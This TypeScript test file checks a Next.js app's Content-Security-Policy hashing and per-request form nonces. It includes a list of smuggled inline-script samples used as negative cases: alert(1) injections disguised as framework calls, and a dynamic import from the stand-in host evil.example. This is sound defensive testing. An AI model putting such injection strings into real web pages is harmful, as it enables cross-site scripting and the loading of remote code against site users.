import { createHash } from "node:crypto";
import http from "node:http";
import type { AddressInfo } from "node:net";
import { expect, it } from "vitest";
import { cachedPolicy, formNonce } from "@/server/csp";
import { loader } from "@/server/loader";
import { pipeline } from "@/server/pipeline";

const policy = "default-src 'self'; script-src 'self'; style-src 'self' 'unsafe-inline'";
const sha = (code: string) => `'sha256-${createHash("sha256").update(code).digest("base64")}'`;

it("a kept page's policy names the framework's inline scripts and ours, nothing else", () => {
  const start =
    '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/a.js"],"runtimeModuleIds":[9]});';
  const data = 'self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\n"])';
  const first = "(self.__next_f=self.__next_f||[]).push([0])";
  const ours = `${loader}{"files":["/_next/static/a.js"],"patient":true})`;
  const smuggled = [
    "alert(1)",
    'self.__next_f.push([1,"x"]);alert(1)',
    "self.__next_f.push([alert(1)])",
    'self.__next_f.push([1,"x"],alert(1))',
    `${loader}alert(1))`,
    `${loader}[]);alert(1)`,
    " ",
    "import('//evil.example/x.js')",
  ];
  const html = [
    `<script id="_R_">${start}</script>`,
    `<script>${first}</script><script>${data}</script>`,
    '<script type="application/ld+json">{"@type":"NGO"}</script>',
    '<script src="/_next/static/chunks/a.js" async=""></script>',
    `<script>${ours}</script>`,
    ...smuggled.map((code) => `<script>${code}</script>`),
  ].join("<p>text</p>");
  expect(cachedPolicy(policy, html)).toBe(
    `default-src 'self'; script-src 'self' ${[start, first, data, ours].map(sha).join(" ")}; style-src 'self' 'unsafe-inline'`,
  );
  expect(cachedPolicy(policy, "<p>no script</p>")).toBe(
    "default-src 'self'; script-src 'self'; style-src 'self' 'unsafe-inline'",
  );
  expect(cachedPolicy("default-src 'none'", html)).toBe("default-src 'none'");
  // the provider's library stays allowed; nothing else is added
  const hosts = "https://js.stripe.com https://*.js.stripe.com http://127.0.0.1:12111";
  expect(cachedPolicy(`script-src 'self' ${hosts}`, html)).toBe(
    `script-src 'self' ${[start, first, data, ours].map(sha).join(" ")} ${hosts}`,
  );
  for (const strict of [
    "script-src 'self' 'unsafe-inline'",
    "script-src 'self' https://x.example 'unsafe-eval'",
    "script-src 'self' https:",
    "script-src https://js.stripe.com",
  ])
    expect(cachedPolicy(strict, html)).toBe(strict);
});

it("a form with files on a signed-in page gets a nonce in its answer; a client cannot choose it", async () => {
  const framework = (request: http.IncomingMessage, response: http.ServerResponse) => {
    response.setHeader("Content-Security-Policy", policy);
    response.end(JSON.stringify({ seen: request.headers["content-security-policy"] ?? null }));
  };
  const answer = pipeline([formNonce, { name: "framework", handle: framework }]);
  const server = http.createServer((request, response) => void answer(request, response));
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const ask = async (path: string, method: string, type: string) => {
    const answer = await fetch(
      `http://127.0.0.1:${(server.address() as AddressInfo).port}${path}`,
      { method, headers: { "content-type": type } },
    );
    return {
      ...((await answer.json()) as { seen: string | null }),
      policy: answer.headers.get("content-security-policy")!,
    };
  };
  const nonces = new Set<string>();
  for (const path of [
    "/dashboard",
    "/dashboard/campaigns/new?x",
    "/registration?step=documents",
    "/admin/payouts",
  ]) {
    const { seen, policy: given } = await ask(path, "POST", "Multipart/form-data; boundary=x");
    expect(given, path).toBe(policy.replace("script-src 'self'", seen!));
    nonces.add(/'nonce-([^']+)'/.exec(seen!)![1]!);
  }
  expect(nonces.size).toBe(4);
  for (const [path, method, type] of [
    ["/dashboard", "PUT", "multipart/form-data"],
    ["/dashboard", "POST", "text/plain"],
    ["/contact", "POST", "multipart/form-data"],
    ["/dashboards", "POST", "multipart/form-data"],
  ] as const) {
    expect(await ask(path, method, type), path).toEqual({ seen: null, policy });
  }
  server.close();
});
